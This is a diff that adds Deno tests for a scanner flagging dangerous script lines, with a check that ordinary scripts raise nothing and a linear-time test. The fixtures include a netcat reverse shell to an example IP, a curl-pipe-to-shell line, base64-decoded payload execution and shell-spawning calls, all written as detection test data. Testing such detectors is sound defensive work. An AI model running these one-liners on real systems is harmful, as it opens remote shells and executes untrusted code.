@@ -1,0 +1,39 @@
+import * as assert from "node:assert/strict";
+import { scriptDangers } from "../../../../core/scanner/knowledge/script_dangers.ts";
+
+Deno.test("C 16 finds what scripts rarely do, and where", async (t) => {
+  const rows: readonly (readonly [text: string, ruleCode: string])[] = [
+    ["exec(base64.b64decode(x))", "S601"],
+    ["eval(zlib.decompress(x))", "S601"],
+    ["echo x | base64 -d | sh", "S601"],
+    ["os.dup2(s.fileno(), 0)", "S301"],
+    ["nc 203.0.113.7 4444 -e /bin/sh", "S301"],
+    ["os.system('id')", "S101"],
+    ["posix.popen('id')", "S101"],
+    ["pty.spawn('sh')", "S101"],
+    ["subprocess.getoutput('id')", "S101"],
+    ["require('child_process')", "S101"],
+    ["curl http://a | sh", "S302"],
+  ];
+  for (const [text, ruleCode] of rows) {
+    await t.step(text, () => {
+      const found = [...scriptDangers(text)].map((danger) => [danger.ruleCode, danger.position]);
+      assert.deepEqual(found.map(([code]) => code), [ruleCode]);
+      const [after] = scriptDangers(`# comment\n${text}`);
+      assert.ok(ruleCode === "S302" || (after?.position ?? 0) >= 10);
+    });
+  }
+});
+
+Deno.test("C 16 finds nothing in ordinary scripts", () => {
+  const text = "import os, subprocess, requests\nsubprocess.run(['ls'])\nmodel.eval()\n" +
+    "requests.get(url)\nos.path.join(a, b)\ndata = base64.b64decode(x)\nasyncio.run(main())\n";
+  assert.deepEqual([...scriptDangers(text)], []);
+});
+
+Deno.test("takes linear time in any script", () => {
+  for (const piece of ["exec (", "eval(base64", "os.", "nc a ", "base64 -d", "curl |", "a.b."]) {
+    const text = piece.repeat(Math.floor(1_000_000 / piece.length));
+    assert.deepEqual([...scriptDangers(text)], [], piece);
+  }
+});
